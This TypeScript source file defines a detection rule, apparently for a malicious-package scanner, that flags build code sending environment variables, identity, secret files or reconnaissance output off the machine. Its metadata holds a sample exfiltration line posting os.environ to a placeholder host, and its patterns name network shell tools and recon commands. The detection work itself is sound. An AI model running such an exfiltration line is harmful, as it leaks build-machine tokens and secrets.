/** Rule: facts about the machine, its environment or its secrets are sent away. */
import { matching, TEXT_INDICATORS } from '../catalog/indicators';
import type { Taint } from '../dataflow/taint';
import { unknown } from '../dataflow/value';
import type { Rule } from './rule';
import { isTestRole, readingOf, runsAtOnce, sourcePhrase } from './values';

export const dataExfiltration: Rule = {
  metadata: {
    id: 'data-exfiltration',
    category: 'network',
    title: 'Data leaves the machine',
    why: 'Who builds a package owes its author no host name, no user name, no environment and no files. Environments of build machines hold tokens; sending them anywhere is the commonest aim of malicious packages.',
    advice: 'Remove it. If it is not yours: do not build this package, and tell the index (PyPI: “Report project as malware”).',
    example: { bad: 'import os, requests\nrequests.post("https://example.org/collect", json=dict(os.environ))', good: '# nothing: a build has nobody to report to' },
    cwe: [200, 359],
    sources: ['https://attack.mitre.org/techniques/T1041/', 'https://docs.pypi.org/project-management/reporting/'],
  },
  fixable: false,
  check(context) {
    if (isTestRole(context.program.role)) return;
    for (const site of context.sites('network')) {
      // A program that was asked to, sends what its user typed; a build was not asked.
      const taints = site.calls.flatMap((call) => [...call.args].filter(([name]) => name !== 'self').flatMap(([, { value }]) => value.taints)).filter((taint) => isPrivate(taint) && (taint.kind !== 'user-input' || site.calls.some(({ entry }) => runsAtOnce(entry))));
      const [taint] = taints.sort((a, b) => (a.key < b.key ? -1 : 1));
      if (!taint) continue;
      const what = [...new Set(taints.map(phrase))].slice(0, 3).join(', ');
      context.report({ point: site.point, severity: 'error', confidence: 'high', persona: 'regular', message: `\`${site.path.replace(/\(\)/g, '')}\` sends away ${what}`, taint });
    }
    for (const sink of ['shell', 'process'] as const) {
      for (const site of context.sites(sink)) {
        const value = site.argument(site.calls[0]!.model.sinks![sink]!)?.value ?? unknown;
        const client = NETWORK_CLIENT.exec(readingOf(value).join(' '))?.[1];
        const [taint] = value.taints.filter(isPrivate).sort((a, b) => (a.key < b.key ? -1 : 1));
        if (client && taint) context.report({ point: site.point, severity: 'error', confidence: 'high', persona: 'regular', message: `\`${client}\`, started here, sends away ${phrase(taint)}`, taint });
      }
    }
  },
};

const phrase = (taint: Taint): string => (taint.kind === 'environment' ? 'the whole environment' : sourcePhrase(taint));

/** Programs whose arguments leave the machine. */
const NETWORK_CLIENT = /(?:^|[\s;&|(`\\/"'])(nslookup|dig|host|ping|curl|wget|nc|ncat|telnet|ftp|tftp|scp|iwr|invoke-webrequest|invoke-restmethod)(?:\.exe)?\s/i;

/** One variable may be a mirror's address; all of them are not. */
function isPrivate(taint: Taint): boolean {
  switch (taint.kind) {
    case 'identity': case 'user-input': return true;
    // Tools are asked for versions and flags; these are asked about the machine and its user.
    case 'process-output': return /\b(?:whoami|hostname|id|uname|ifconfig|ipconfig|env|printenv|systeminfo|wmic|ls|dir|ps|cat|netstat|getent|last)\b/.test(taint.detail);
    case 'environment': return taint.detail === 'os.environ';
    case 'file': return matching(TEXT_INDICATORS, taint.detail).some(({ kind }) => kind === 'secret-path');
    default: return false;
  }
}
